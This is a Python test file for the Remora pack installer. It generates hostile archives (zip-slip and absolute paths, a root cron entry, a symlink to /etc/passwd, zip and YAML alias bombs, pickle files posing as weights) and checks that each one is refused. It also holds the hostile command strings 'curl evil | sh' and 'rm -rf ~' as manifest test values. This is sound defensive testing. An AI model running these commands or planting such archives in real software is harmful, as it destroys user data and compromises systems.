"""A corpus of hostile and broken packs, generated here: each is refused with its own message,
before anything is written, through the library, ``remora pack verify`` and ``remora install``.
"""

from __future__ import annotations

import io
import pickle
import random
import re
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from remora_lsp.cli import app
from remora_lsp.errors import (
    ArchiveError,
    DigestError,
    ManifestError,
    PackError,
    SignatureError,
)
from remora_lsp.packs.archive import Limits, PackArchive, verify_archive
from remora_lsp.packs.install import install_pack

from .conftest import Home
from .factory import (
    Member,
    entry,
    flip_byte,
    good_files,
    manifest_bytes,
    manifest_data,
    pack_zip,
    raw_yaml,
    share_member_data,
    tree_snapshot,
    zip_bytes,
)


@dataclass
class Case:
    """A hostile archive and how it must be refused."""

    build: Callable[[Home], bytes]
    error: type[PackError]
    message: str
    limits: Limits = field(default_factory=Limits)
    allow_unsigned: bool = False


def _signed(home: Home, files: dict[str, bytes] | None = None, **extra: Any) -> bytes:
    return pack_zip(files, key=home.key, **extra)


def _listed_extra(home: Home, member: Member) -> bytes:
    """A signed archive plus ``member``, listed in the manifest when its name can be.

    Names the manifest schema cannot hold (``..``, absolute, backslash) stay unlisted: the
    structural check must refuse them before the manifest is even read.
    """
    files = good_files()
    data = manifest_data(files)
    data["files"][member.name] = entry(member.data)
    try:
        text = manifest_bytes(data, home.key)
    except ValueError:  # pydantic's ValidationError
        del data["files"][member.name]
        text = manifest_bytes(data, home.key)
    members = [Member("manifest.yaml", text)]
    members += [Member(n, b) for n, b in sorted(files.items())]
    return zip_bytes([*members, member])


def _with_files(home: Home, change: Callable[[dict[str, bytes]], None]) -> bytes:
    files = good_files()
    change(files)
    return _signed(home, files)


def _tampered_after_signing(home: Home) -> bytes:
    files = good_files()
    data = manifest_data(files)
    signed = manifest_bytes(data, home.key).replace(b"a test pack", b"an evil pack")
    return pack_zip(files, manifest=signed)


def _malformed_signature(home: Home) -> bytes:
    files = good_files()
    text = manifest_bytes(manifest_data(files), home.key)
    head, _, _ = text.partition(b"  value: ")
    return pack_zip(files, manifest=head + b"  value: '!!not base64!!'\n")


def _digest_mismatch(home: Home) -> bytes:
    files = good_files()
    data = manifest_data(files)
    files["templates/router.pym"] = files["templates/router.pym"].replace(b"router", b"rooter")
    return pack_zip(files, manifest=manifest_bytes(data, home.key))


def _size_mismatch(home: Home) -> bytes:
    files = good_files()
    data = manifest_data(files)
    files["docs/README.md"] += b"and a hidden payload\n"
    return pack_zip(files, manifest=manifest_bytes(data, home.key))


def _missing_listed(home: Home) -> bytes:
    files = good_files()
    data = manifest_data(files)
    del files["docs/README.md"]
    return pack_zip(files, manifest=manifest_bytes(data, home.key))


def _zip_bomb(home: Home) -> bytes:
    files = good_files()
    files["embeddings/chunks.jsonl"] = bytes(64 * 1024 * 1024)
    return _signed(home, files)


def _shared_data(home: Home) -> bytes:
    """Two names for one member's bytes: the zip form of a hard link."""
    files = good_files()
    files["docs/READMX.md"] = files["docs/README.md"]
    text = manifest_bytes(manifest_data(files), home.key)
    members = [Member("manifest.yaml", text)]
    members += [Member(n, b) for n, b in sorted(files.items()) if n != "docs/READMX.md"]
    return share_member_data(zip_bytes(members), "docs/README.md", "docs/READMX.md")


def _too_many(home: Home) -> bytes:
    files = good_files()
    for i in range(10_001):
        files[f"docs/f{i}.md"] = b""
    data = manifest_data(files)
    return pack_zip(files, manifest=raw_yaml(data))


def _duplicate(home: Home) -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return _signed(home, extra=[Member("docs/README.md", b"# second copy\n")])


def _manifest_with(home: Home, **changes: object) -> bytes:
    files = good_files()
    data = manifest_data(files)
    data.update(changes)
    return pack_zip(files, manifest=raw_yaml(data))


def _pickle_bytes() -> bytes:
    return pickle.dumps({"lora_A": [0.0] * 8}, protocol=4)


def _bad_safetensors_header(home: Home) -> bytes:
    blob = struct.pack("<Q", 10_000) + b'{"a": 1}'
    return _with_files(
        home, lambda f: f.__setitem__("adapters/generation/adapter_model.safetensors", blob)
    )


def _adapter_without_weights(home: Home) -> bytes:
    files = good_files()
    data = manifest_data(files)
    del files["adapters/generation/adapter_model.safetensors"]
    del data["files"]["adapters/generation/adapter_model.safetensors"]
    return pack_zip(files, manifest=raw_yaml(data))


CASES: dict[str, Case] = {
    "zip-slip": Case(
        lambda h: _listed_extra(h, Member("../evil.py", b"import os\n")),
        ArchiveError,
        r"member '\.\./evil\.py' has a '\.\.' component \(zip-slip",
    ),
    "nested-zip-slip": Case(
        lambda h: _listed_extra(h, Member("templates/../../evil.py", b"x")),
        ArchiveError,
        r"'\.\.' component \(zip-slip",
    ),
    "absolute-path": Case(
        lambda h: _listed_extra(h, Member("/etc/cron.d/evil", b"* * * * * root sh\n")),
        ArchiveError,
        r"member '/etc/cron.d/evil' is an absolute path",
    ),
    "windows-drive-path": Case(
        lambda h: _listed_extra(h, Member("C:/evil.pym", b"x")),
        ArchiveError,
        r"member 'C:/evil.pym' is an absolute path",
    ),
    "backslash": Case(
        lambda h: _listed_extra(h, Member("templates\\..\\evil.pym", b"x")),
        ArchiveError,
        r"contains a backslash",
    ),
    "symlink-member": Case(
        lambda h: _listed_extra(
            h, Member("templates/link.pym", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
        ),
        ArchiveError,
        r"member 'templates/link.pym' is a symbolic link",
    ),
    "device-file": Case(
        lambda h: _listed_extra(h, Member("docs/tty.md", b"", mode=stat.S_IFCHR | 0o666)),
        ArchiveError,
        r"member 'docs/tty.md' is a device file",
    ),
    "block-device": Case(
        lambda h: _listed_extra(h, Member("docs/sda.md", b"", mode=stat.S_IFBLK | 0o666)),
        ArchiveError,
        r"member 'docs/sda.md' is a device file",
    ),
    "fifo": Case(
        lambda h: _listed_extra(h, Member("docs/pipe.md", b"", mode=stat.S_IFIFO | 0o644)),
        ArchiveError,
        r"is a FIFO",
    ),
    "shared-data-hardlink": Case(
        _shared_data,
        ArchiveError,
        r"overlaps member .* \(shared or overlapping data",
    ),
    "zip-bomb-ratio": Case(_zip_bomb, ArchiveError, r"compression ratio over the cap"),
    "too-many-files": Case(_too_many, ArchiveError, r"more than (the cap of )?10000 members"),
    "file-over-size-cap": Case(
        lambda h: _signed(h),
        ArchiveError,
        r"declares \d+ bytes, over the per-file cap of 100",
        limits=Limits(max_file_bytes=100),
    ),
    "total-over-size-cap": Case(
        lambda h: _signed(h),
        ArchiveError,
        r"uncompressed size \d+ bytes is over the cap of 200",
        limits=Limits(max_total_bytes=200),
    ),
    "truncated": Case(
        lambda h: _signed(h)[:-40],
        ArchiveError,
        r"truncated or corrupt: the zip end-of-archive record is missing",
    ),
    "not-a-zip": Case(
        lambda h: b"\x7fELF" + bytes(200), ArchiveError, r"is not a pack archive \(not a zip"
    ),
    "corrupt-member-data": Case(
        lambda h: flip_byte(_signed(h), "templates/router.pym", 3),
        ArchiveError,
        r"member 'templates/router.pym' is corrupt",
    ),
    "encrypted-member": Case(
        lambda h: _listed_extra(h, Member("docs/secret.md", b"x", flag_bits=0x1)),
        ArchiveError,
        r"member 'docs/secret.md' is encrypted",
    ),
    "unsupported-compression": Case(
        lambda h: _listed_extra(h, Member("docs/b.md", b"x" * 100, compress=zipfile.ZIP_BZIP2)),
        ArchiveError,
        r"uses compression method 12",
    ),
    "duplicate-names": Case(_duplicate, ArchiveError, r"duplicate member 'docs/README.md'"),
    "names-differ-in-case": Case(
        lambda h: _signed(h, extra=[Member("docs/readme.md", b"# other\n")]),
        ArchiveError,
        r"members 'docs/README.md' and 'docs/readme.md' differ only in case",
    ),
    "digest-mismatch": Case(_digest_mismatch, DigestError, r"router.pym does not match its sha256"),
    "size-mismatch": Case(
        _size_mismatch, DigestError, r"README.md is \d+ bytes in the archive but the manifest says"
    ),
    "file-not-in-manifest": Case(
        lambda h: _signed(h, extra=[Member("templates/extra.pym", b"import os\n")]),
        ArchiveError,
        r"templates/extra.pym is in the archive but not listed in the manifest",
    ),
    "listed-file-missing": Case(
        _missing_listed,
        DigestError,
        r"docs/README.md is listed in the manifest of demo@1.0.0 but missing from the archive",
    ),
    "no-manifest": Case(
        lambda h: zip_bytes([Member(n, b) for n, b in good_files().items()]),
        ManifestError,
        r"no manifest.yaml in the archive",
    ),
    "bad-signature": Case(_tampered_after_signing, SignatureError, r"bad signature"),
    "untrusted-key": Case(
        lambda h: pack_zip(key=h.stranger), SignatureError, r"signed by untrusted key [0-9a-f]{16}"
    ),
    "malformed-signature": Case(
        _malformed_signature, SignatureError, r"malformed signature: `signature.value` is not"
    ),
    "unsigned": Case(lambda h: pack_zip(), SignatureError, r"demo@1.0.0 is unsigned"),
    "pickle-as-safetensors": Case(
        lambda h: _with_files(
            h,
            lambda f: f.__setitem__(
                "adapters/generation/adapter_model.safetensors", _pickle_bytes()
            ),
        ),
        ArchiveError,
        r"adapter_model.safetensors: file starts with a pickle header",
    ),
    "pickle-in-embeddings": Case(
        lambda h: _with_files(
            h, lambda f: f.__setitem__("embeddings/chunks.jsonl", _pickle_bytes())
        ),
        ArchiveError,
        r"embeddings/chunks.jsonl: file starts with a pickle header",
    ),
    "torch-zip-adapter": Case(
        lambda h: _with_files(
            h,
            lambda f: f.__setitem__(
                "adapters/generation/adapter_config.json", b"PK\x03\x04" + bytes(40)
            ),
        ),
        ArchiveError,
        r"adapter_config.json: file is a zip container",
    ),
    "bin-adapter": Case(
        lambda h: _with_files(
            h, lambda f: f.__setitem__("adapters/generation/adapter_model.bin", _pickle_bytes())
        ),
        ArchiveError,
        r"adapter_model.bin: .bin files \(PyTorch pickle weights\) are refused",
    ),
    "pt-checkpoint": Case(
        lambda h: _with_files(h, lambda f: f.__setitem__("embeddings/model.pt", b"x")),
        ArchiveError,
        r"model.pt: .pt files",
    ),
    "npy-embeddings": Case(
        lambda h: _with_files(h, lambda f: f.__setitem__("embeddings/vectors.npy", b"\x93NUMPY")),
        ArchiveError,
        r"vectors.npy: .npy files",
    ),
    "bad-safetensors-header": Case(
        _bad_safetensors_header,
        ArchiveError,
        r"not a valid safetensors file: header length 10000 does not fit",
    ),
    "bad-semver": Case(
        lambda h: _manifest_with(h, version="1.0"),
        ManifestError,
        r"manifest field `version` = '1.0': must be a semantic version",
    ),
    "unknown-field": Case(
        lambda h: _manifest_with(h, post_install="curl evil | sh"),
        ManifestError,
        r"manifest field `post_install` is not part of format 1",
    ),
    "huge-manifest": Case(
        lambda h: _manifest_with(h, card={"padding": "x" * (1024 * 1024 + 10)}),
        ManifestError,
        r"manifest is \d+ bytes, over the 1048576-byte limit",
    ),
    "future-format": Case(
        lambda h: _manifest_with(h, format=2),
        ManifestError,
        r"pack format 2 is newer than this Remora supports .* upgrade Remora",
    ),
    "yaml-alias-bomb": Case(
        lambda h: pack_zip(
            manifest=b"format: 1\nname: demo\nversion: 1.0.0\n"
            b"card:\n  a: &a [x, x, x, x, x, x, x, x]\n  b: &b [*a, *a, *a, *a, *a, *a]\n"
        ),
        ManifestError,
        r"YAML aliases \(\*name\) are not allowed",
    ),
    "file-outside-layout": Case(
        lambda h: _manifest_with(h, files={"install.sh": entry(b"rm -rf ~\n")}),
        ManifestError,
        r"'install.sh' is outside the pack layout",
    ),
    "adapter-without-weights": Case(
        _adapter_without_weights,
        ManifestError,
        r"no adapters/generation/\*.safetensors weights in `files`",
    ),
}


def test_corpus_is_large_and_messages_are_distinct() -> None:
    assert len(CASES) >= 15
    messages = [c.message for c in CASES.values()]
    assert len(set(messages)) == len(messages)


@pytest.mark.parametrize("name", sorted(CASES))
def test_install_refuses_and_writes_nothing(name: str, home: Home, tmp_path: Path) -> None:
    case = CASES[name]
    archive = tmp_path / "incoming" / f"{name}.remorapack"
    archive.parent.mkdir()
    archive.write_bytes(case.build(home))
    before = tree_snapshot(tmp_path)
    with pytest.raises(case.error, match=case.message):
        install_pack(archive, home.paths, case.allow_unsigned, limits=case.limits)
    assert tree_snapshot(tmp_path) == before, "a refused install changed the file system"
    assert not (home.packs / ".tmp").exists() or not any((home.packs / ".tmp").iterdir())
    assert not (tmp_path / "evil.py").exists()


@pytest.mark.parametrize("name", sorted(CASES))
def test_verify_refuses_with_the_same_message(name: str, home: Home, tmp_path: Path) -> None:
    case = CASES[name]
    archive = tmp_path / f"{name}.remorapack"
    archive.write_bytes(case.build(home))
    with pytest.raises(case.error, match=case.message):
        verify_archive(archive, home.paths.trust_dir, allow_unsigned=False, limits=case.limits)


CLI_CASES = [n for n, c in sorted(CASES.items()) if c.limits == Limits()]


@pytest.mark.parametrize("name", CLI_CASES)
def test_cli_install_prints_one_red_line(name: str, home: Home, tmp_path: Path) -> None:
    case = CASES[name]
    archive = tmp_path / f"{name}.remorapack"
    archive.write_bytes(case.build(home))
    before = tree_snapshot(home.root)
    result = CliRunner().invoke(app, ["install", str(archive)])
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert re.search(case.message, lines[0]), lines[0]
    assert "Traceback" not in result.output
    assert tree_snapshot(home.root) == before


def test_the_honest_archive_of_the_corpus_installs(home: Home, tmp_path: Path) -> None:
    archive = tmp_path / "good.remorapack"
    archive.write_bytes(_signed(home))
    installed = install_pack(archive, home.paths)
    assert installed.key == "demo@1.0.0"
    assert (installed.path / "adapters/generation/adapter_model.safetensors").is_file()


def test_random_corruption_only_raises_pack_errors(home: Home) -> None:
    """Flip, truncate and splice bytes of a good archive: every outcome is a PackError or OK."""
    good = _signed(home)
    rng = random.Random(1234)
    outcomes: dict[str, int] = {}
    for _ in range(400):
        data = bytearray(good)
        for _ in range(rng.randint(1, 4)):
            pos = rng.randrange(len(data))
            op = rng.random()
            if op < 0.6:
                data[pos] = rng.randrange(256)
            elif op < 0.8:
                del data[pos : pos + rng.randint(1, 64)]
            else:
                data[pos:pos] = rng.randbytes(rng.randint(1, 32))
        try:
            with PackArchive(io.BytesIO(bytes(data))) as archive:
                archive.check_signature(home.paths.trust_dir, allow_unsigned=False)
                archive.verify_contents()
            outcomes["ok"] = outcomes.get("ok", 0) + 1
        except PackError as exc:
            outcomes[type(exc).__name__] = outcomes.get(type(exc).__name__, 0) + 1
    assert sum(outcomes.values()) == 400
    assert outcomes.get("ok", 0) < 400
